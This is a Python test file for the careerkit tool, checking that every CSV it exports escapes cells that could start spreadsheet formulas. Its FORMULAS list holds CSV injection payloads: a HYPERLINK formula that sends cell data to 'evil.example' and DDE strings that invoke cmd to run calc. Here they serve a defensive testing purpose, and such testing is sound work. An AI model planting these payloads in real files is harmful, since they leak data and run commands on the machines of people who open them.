"""Every CSV careerkit writes is safe to open in a spreadsheet (formula injection)."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from collections.abc import Callable
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import Result

from careerkit.answers import template_yaml
from careerkit.rubric import load_rubric
from careerkit.safetext import visible
from careerkit.spreadsheet import FORMULA_STARTS, csv_text, safe_cell

DATA = Path(__file__).parent / "data"
ALL_TYPES = DATA / "rubrics" / "all-types.yaml"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "-2+3+cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0", "\t=4+4", "+5+5", "@SUM(1+1)*cmd|' /C calc'!A0"]
NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def is_live(cell: str) -> bool:
    """Would a spreadsheet take this cell for a formula?"""
    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_text_cell_can_start_a_formula_and_none_is_lost(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not is_live(cell)
    kept = visible(text.replace("\r\n", "\n").replace("\r", "\n"))  # one line break
    assert cell == kept or cell == "'" + kept


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(st.text() | st.integers() | st.floats(allow_nan=False,
                                                               allow_infinity=False),
                         min_size=1, max_size=4), min_size=1, max_size=4))
def test_read_back_every_text_cell_is_inert_and_numbers_stay_numbers(
        rows: list[list[str | int | float]]) -> None:
    back = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert len(back) == len(rows)
    for row, read in zip(rows, back, strict=True):
        for cell, value in zip(row, read, strict=True):
            if isinstance(cell, (int, float)):
                assert float(value) == float(cell)
            else:
                assert not is_live(value)
                kept = visible(cell.replace("\r\n", "\n").replace("\r", "\n"))
                assert value in (kept, "'" + kept)


def hostile_all_types(folder: Path) -> Path:
    text = ALL_TYPES.read_text(encoding="utf-8")
    formulas = itertools.cycle(FORMULAS)
    text = re.sub(r"\b(title|label|do|outcome): ([^,}\n]+)",
                  lambda m: f"{m.group(1)}: {json.dumps(next(formulas))}", text)
    path = folder / "formulas.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_export_csv_from_a_hostile_rubric_has_no_live_formula(
        cli: Callable[..., Result], tmp_path: Path) -> None:
    rubric_path = hostile_all_types(tmp_path)
    rubric = load_rubric(rubric_path)
    answers = tmp_path / "answers.yaml"
    answers.write_text(template_yaml(rubric, example=True), encoding="utf-8")
    out = tmp_path / "plan.csv"
    result = cli("export", answers, "-r", rubric_path, "--format", "csv", "-o", out)
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert any(r["kind"] == "action" for r in rows)
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if is_live(c)]
    # The hostile text is all there, quoted, not lost or mangled.
    assert "'" + FORMULAS[0] in cells
    assert any(c.startswith("'-2+3+cmd") for c in cells)
    # `do: "\t=4+4"`: the export joins a text's words with single spaces (so the tab
    # goes), and the cell that now starts with "=" is quoted, never a live "=4+4".
    assert "=4+4" not in cells
    assert "'=4+4" in cells
    for row in rows:
        if row["score"]:
            float(row["score"])  # number columns stay numbers
        if row["horizon_days"]:
            int(row["horizon_days"])


def test_the_cohort_csv_goes_through_the_same_writer(
        cli: Callable[..., Result], tmp_path: Path) -> None:
    rubric_path = hostile_all_types(tmp_path)
    rubric = load_rubric(rubric_path)
    folder = tmp_path / "cohort"
    folder.mkdir()
    for i in range(4):
        (folder / f"s{i}.yaml").write_text(template_yaml(rubric, example=True,
                                                         respondent=f"S {i}"), encoding="utf-8")
    out = tmp_path / "students.csv"
    result = cli("cohort", folder, "-r", rubric_path, "--min-group", "3", "--csv", out)
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 5
    assert not [c for row in rows for c in row if is_live(c)]
    assert all(float(c) >= 0 for row in rows[1:] for c in row[1:] if c)
